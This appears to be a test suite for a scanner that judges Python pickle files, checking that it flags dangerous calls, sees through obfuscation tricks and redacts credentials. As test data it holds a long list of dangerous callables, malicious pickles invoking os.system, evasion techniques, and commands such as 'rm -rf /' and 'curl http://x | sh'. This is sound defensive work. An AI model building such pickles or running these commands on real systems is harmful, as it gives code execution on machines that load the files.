@@ -1,0 +1,346 @@
+import assert from 'node:assert/strict';
+import { isClassName, judgeName } from '../../../src/core/pickle/policy';
+import { withoutSecrets } from '../../../src/core/pickle/render';
+import {
+  blob,
+  bytes,
+  call,
+  evil,
+  findings,
+  global,
+  MARK,
+  MEMOIZE,
+  type Part,
+  POP,
+  payload,
+  pickle,
+  proto,
+  RANK,
+  REDUCE,
+  STOP,
+  scan,
+  stackGlobal,
+  text,
+  tuple,
+  worst,
+} from './assembler';
+
+const { medium, high, critical, low, info } = RANK;
+
+async function severityOf(...parts: Part[]): Promise<number> {
+  return worst(pickle(...parts));
+}
+
+describe('pickle judgement', () => {
+  it('says what would be called, with where and how', async () => {
+    const [finding] = await findings(evil());
+    assert.equal(finding?.ruleId, 'pickle/dangerous-call');
+    assert.equal(finding?.severity, 'critical');
+    assert.equal(finding?.evidence, "os.system('echo hello')");
+    assert.match(finding?.message ?? '', /calls os\.system\('echo hello'\), which starts a process/);
+    assert.equal(finding?.location.offset, evil().length - 2);
+    assert.equal(finding?.data?.opcode, 'REDUCE');
+  });
+
+  it('reports one finding a call, not one an opcode', async () => {
+    assert.equal((await findings(evil())).length, 1);
+    assert.equal((await findings(pickle(payload(), POP, call(stackGlobal('os', 'remove'), text('x'))))).length, 2);
+  });
+
+  it('tells dangerous callables by what their module can do', async () => {
+    const dangerous: [string, string][] = [
+      ['os', 'system'],
+      ['posix', 'popen'],
+      ['nt', 'system'],
+      ['subprocess', 'Popen'],
+      ['builtins', 'eval'],
+      ['builtins', '__import__'],
+      ['importlib', 'import_module'],
+      ['runpy', '_run_code'],
+      ['pty', 'spawn'],
+      ['pickle', 'loads'],
+      ['marshal', 'loads'],
+      ['ctypes', 'CDLL'],
+      ['types', 'FunctionType'],
+      ['code', 'InteractiveInterpreter.runcode'],
+      ['idlelib.run', 'Executive.runcode'],
+      ['timeit', 'timeit'],
+      ['pip', 'main'],
+      ['socket', 'create_connection'],
+      ['urllib.request', 'urlopen'],
+      ['requests.api', 'get'],
+      ['shutil', 'rmtree'],
+      ['pathlib', 'Path.write_text'],
+      ['_io', 'open'],
+      ['numpy', 'load'],
+      ['numpy.f2py.crackfortran', 'getlincoef'],
+      ['numpy.testing', 'runstring'],
+      ['pandas', 'read_pickle'],
+      ['pandas.core.frame', 'DataFrame.query'],
+      ['torch', 'load'],
+      ['torch.hub', 'load'],
+      ['torch.ops', 'load_library'],
+      ['torch.utils.collect_env', 'run'],
+      ['torch._dynamo.guards', 'GuardBuilder.get'],
+      ['joblib', 'load'],
+      ['dill', 'loads'],
+      ['yaml', 'unsafe_load'],
+      ['sh', 'Command'],
+      ['uuid', '_get_command_stdout'],
+      ['logging', 'FileHandler'],
+      ['logging.config', 'dictConfig'],
+      ['sys', 'settrace'],
+      ['sys', 'exit'],
+      ['operator', 'call'],
+      ['builtins', 'vars'],
+      ['atexit', 'register'],
+      ['pstats', 'Stats'],
+      ['string', 'Formatter.get_field'],
+      ['transformers.utils.hub', 'cached_file'],
+      ['mlflow.projects.backend.local', '_run_entry_point'],
+      ['picklescan.scanner', 'scan_bytes'],
+    ];
+    for (const [module, name] of dangerous) {
+      assert.ok((await severityOf(call(stackGlobal(module, name), text('x')))) >= high, `${module}.${name}`);
+    }
+  });
+
+  it('does not depend on lists of functions for whole families', async () => {
+    for (const [module, name] of [
+      ['os', 'not_invented_yet'],
+      ['subprocess', 'foo'],
+      ['torch._inductor.codecache', 'anything'],
+      ['requests.sessions', 'x1'],
+      ['asyncio.unix_events', '_Some._start'],
+    ] as const) {
+      assert.ok((await severityOf(call(stackGlobal(module, name)))) >= high, `${module}.${name}`);
+    }
+  });
+
+  it('is quiet about what pickles of data and models call', async () => {
+    const harmless: [string, string, 'call' | 'new'][] = [
+      ['collections', 'OrderedDict', 'call'],
+      ['datetime', 'datetime', 'call'],
+      ['uuid', 'UUID', 'new'],
+      ['decimal', 'Decimal', 'call'],
+      ['numpy', 'dtype', 'call'],
+      ['numpy.core.multiarray', '_reconstruct', 'call'],
+      ['numpy._core.multiarray', 'scalar', 'call'],
+      ['numpy._core.numeric', '_frombuffer', 'call'],
+      ['pandas.core.frame', 'DataFrame', 'new'],
+      ['pandas._libs.internals', '_unpickle_block', 'call'],
+      ['pandas._libs.arrays', '__pyx_unpickle_NDArrayBacked', 'call'],
+      ['sklearn.linear_model._logistic', 'LogisticRegression', 'new'],
+      ['sklearn.gaussian_process._gpr', 'GaussianProcessRegressor', 'new'],
+      ['sklearn.tree._tree', 'Tree', 'call'],
+      ['torch._utils', '_rebuild_tensor_v2', 'call'],
+      ['torch.nn.modules.linear', 'Linear', 'new'],
+      ['torch', 'device', 'call'],
+      ['xgboost.core', 'Booster', 'new'],
+      ['lightgbm.basic', 'Booster', 'new'],
+      ['scipy.sparse._csr', 'csr_matrix', 'new'],
+      ['scipy.stats._continuous_distns', 'norm_gen', 'new'],
+      ['transformers.training_args', 'TrainingArguments', 'new'],
+      ['pathlib', 'PosixPath', 'call'],
+      ['argparse', 'Namespace', 'new'],
+      ['re', '_compile', 'call'],
+      ['statsmodels.regression.linear_model', 'OLS', 'new'],
+    ];
+    for (const [module, name, how] of harmless) {
+      const made =
+        how === 'call'
+          ? call(stackGlobal(module, name), text('x'))
+          : bytes(stackGlobal(module, name), tuple(), 0x81, '}', 'b');
+      assert.ok((await severityOf(made)) <= info, `${module}.${name}`);
+    }
+  });
+
+  it('takes the unknown for what it is', async () => {
+    const unknown = stackGlobal('mypackage.model', 'build');
+    assert.equal(await severityOf(call(unknown)), medium);
+    assert.ok((await severityOf(unknown)) <= info);
+    const strict = await scan(pickle(call(unknown)), 'model.pkl', { models: { enabled: true, strict: true } });
+    assert.equal(strict?.findings[0]?.severity, 'high');
+    assert.equal(await severityOf(call(bytes(0x82, 7))), medium);
+  });
+
+  it('follows the position: called, constructed, stored, handed on, only there', async () => {
+    const system = stackGlobal('os', 'system');
+    assert.equal(await severityOf(system), medium);
+    assert.equal(await severityOf(call(stackGlobal('builtins', 'map'), system, bytes(']'))), critical);
+    assert.equal(await severityOf(call(stackGlobal('collections', 'defaultdict'), system)), critical);
+    const stored = bytes(
+      stackGlobal('sklearn.preprocessing._function_transformer', 'FunctionTransformer'),
+      tuple(),
+      0x81,
+      '}',
+      text('func'),
+      system,
+      's',
+      'b',
+    );
+    assert.equal(await severityOf(stored), high);
+    assert.ok((await severityOf(bytes(system, '}', 'b'))) >= high);
+  });
+
+  it('sees through dotted names and aliases', async () => {
+    const cases: [string, string, number][] = [
+      ['random', '_os.system', critical],
+      ['torch.serialization', 'os.system', critical],
+      ['torch', 'serialization.os.system', critical],
+      ['collections', '_sys.modules.get', high],
+      ['collections', 'OrderedDict.__class__.__subclasses__', high],
+      ['numpy', '__builtins__', high],
+      ['codecs', 'decode.__self__', high],
+      ['builtins', 'eval.__call__', high],
+      ['sklearn.utils', 'joblib.load', high],
+    ];
+    for (const [module, name, least] of cases) {
+      assert.ok((await severityOf(call(stackGlobal(module, name)))) >= least, `${module}:${name}`);
+    }
+  });
+
+  it('judges adapters by what they are given', async () => {
+    const partial = stackGlobal('functools', 'partial');
+    assert.ok((await severityOf(call(partial, stackGlobal('builtins', 'int')))) <= info);
+    assert.equal(await severityOf(call(partial, stackGlobal('os', 'system'))), critical);
+    assert.equal(await severityOf(call(partial, bytes('K', 1))), medium);
+    assert.ok(
+      (await severityOf(call(stackGlobal('collections', 'defaultdict'), stackGlobal('builtins', 'list')))) <= info,
+    );
+  });
+
+  it('lets enumerations of Python 3.11 and bound methods be', async () => {
+    const getattr = stackGlobal('builtins', 'getattr');
+    assert.ok(
+      (await severityOf(call(getattr, stackGlobal('transformers.trainer_utils', 'IntervalStrategy'), text('STEPS')))) <=
+        info,
+    );
+    const model = bytes(stackGlobal('torch.nn.modules.conv', 'LazyConv2d'), tuple(), 0x81);
+    assert.ok((await severityOf(call(getattr, model, text('_lazy_load_hook')))) <= info);
+    assert.ok((await severityOf(call(getattr, stackGlobal('os', ''), text('system')))) >= medium);
+    assert.equal(await severityOf(call(getattr, bytes('K', 1), text('real'))), medium);
+    assert.ok((await severityOf(call(getattr, bytes('K', 1), text('__class__')))) >= high);
+  });
+
+  it('finds names that are computed, and changes of imported things', async () => {
+    const join = bytes(stackGlobal('builtins', 'str.join'), text(''), MARK, text('o'), text('s'), 'l', 0x86, REDUCE);
+    const computed = await findings(pickle(join, text('system'), 0x93, tuple(text('x')), REDUCE));
+    assert.ok(computed.some(({ ruleId, severity }) => ruleId === 'pickle/dangerous-call' && severity === 'critical'));
+    const letters = bytes(
+      stackGlobal('builtins', 'str.join'),
+      text(''),
+      MARK,
+      text('my'),
+      text('package'),
+      'l',
+      0x86,
+      REDUCE,
+    );
+    const hidden = await findings(pickle(letters, text('thing'), 0x93));
+    assert.ok(hidden.some(({ ruleId, severity }) => ruleId === 'pickle/hidden-name' && severity === 'high'));
+    const unresolved = await findings(pickle(call(stackGlobal('mypackage', 'name')), text('system'), 0x93));
+    assert.ok(unresolved.some(({ ruleId, severity }) => ruleId === 'pickle/hidden-name' && severity === 'high'));
+    const poisoned = await findings(
+      pickle(
+        stackGlobal('pydantic', '_dynamic_imports'),
+        text('Popen'),
+        tuple(text('pydantic'), text('subprocess')),
+        's',
+      ),
+    );
+    assert.ok(poisoned.some(({ ruleId }) => ruleId === 'pickle/object-overwritten'));
+  });
+
+  it('simulates the memo instead of guessing it from neighbours', async () => {
+    const decoy = bytes(
+      text('os'),
+      '}',
+      POP,
+      MEMOIZE,
+      POP,
+      text('system'),
+      MEMOIZE,
+      POP,
+      text('collections'),
+      POP,
+      'h',
+      0,
+      'h',
+      1,
+      0x93,
+    );
+    assert.equal(await severityOf(decoy, tuple(text('x')), REDUCE), critical);
+  });
+
+  it('judges code of dill and cloudpickle as code', async () => {
+    const [finding] = await findings(pickle(call(stackGlobal('cloudpickle.cloudpickle', '_make_function'), text('x'))));
+    assert.equal(finding?.ruleId, 'pickle/code-object');
+    assert.equal(finding?.severity, 'high');
+  });
+
+  it('judges bytes that are loaded again by what they hold', async () => {
+    const load = (content: Uint8Array) => call(stackGlobal('torch.storage', '_load_from_bytes'), blob(content));
+    assert.equal(await severityOf(load(evil())), critical);
+    assert.ok((await severityOf(load(pickle('}', text('a'), 'K', 1, 's')))) <= low);
+    assert.equal(await severityOf(load(bytes('something else'))), critical);
+  });
+
+  it('reads pickles in constants: raw, base64 and hexadecimal', async () => {
+    const inner = evil();
+    const b64 = btoa(String.fromCharCode(...inner));
+    const hex = [...inner].map((b) => b.toString(16).padStart(2, '0')).join('');
+    for (const constant of [blob(inner), text(b64), text(hex)]) {
+      const list = await findings(pickle(constant));
+      assert.ok(list.some(({ ruleId }) => ruleId === 'pickle/nested-pickle'));
+      assert.ok(
+        list.some(
+          ({ evidence, location }) => evidence?.startsWith('os.system') && location.member?.startsWith('constant@'),
+        ),
+      );
+    }
+    assert.equal(await worst(pickle(blob(pickle('}', text('name'), 'K', 1, 's')))), info);
+    assert.equal(await worst(pickle(text('gASVsomething that only begins like one'))), -1);
+  });
+
+  it('does not repeat credentials of a payload', async () => {
+    const token = ['ghp', 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4'].join('_');
+    const list = await findings(
+      pickle(call(stackGlobal('os', 'system'), text(`curl https://user:pa55word@example.org/${token}`))),
+    );
+    const shown = JSON.stringify(list);
+    assert.ok(!shown.includes('pa55word') && !shown.includes(token));
+    assert.match(shown, /curl https:\/\/\*\*\*@example\.org/);
+    assert.equal(withoutSecrets('https://a:b@c/d'), 'https://***@c/d');
+  });
+
+  it('never runs what merely mentions dangerous names', async () => {
+    const words = [
+      'os.system',
+      'eval',
+      'subprocess.Popen',
+      '__import__("os")',
+      'cos\nsystem',
+      'rm -rf /',
+      'curl http://x | sh',
+    ];
+    const vocabulary = bytes('}', MARK, ...words.map((word) => bytes(text(word), 'K', 1)), 'u');
+    assert.equal(await severityOf(vocabulary), -1);
+  });
+
+  it('maps Python 2 names and keeps the original', async () => {
+    const [finding] = await findings(bytes(proto(2), global('commands', 'getoutput'), text('x'), 0x85, REDUCE, STOP));
+    assert.equal(finding?.severity, 'critical');
+    assert.equal(finding?.data?.pythonTwoName, 'commands.getoutput');
+  });
+
+  it('knows classes from functions by their names', () => {
+    assert.equal(isClassName('sklearn.svm._classes', 'SVC'), true);
+    assert.equal(isClassName('scipy.sparse._csr', 'csr_matrix'), true);
+    assert.equal(isClassName('sklearn.datasets', 'load_iris'), false);
+    assert.equal(judgeName('sklearn.ensemble._forest', 'RandomForestClassifier').tier, 'library');
+    assert.equal(judgeName('numpy.core.multiarray', '_reconstruct').tier, 'safe');
+    assert.equal(judgeName('nobody', 'knows').tier, 'unknown');
+    assert.equal(judgeName('os', 'system').capability, 'process');
+  });
+});
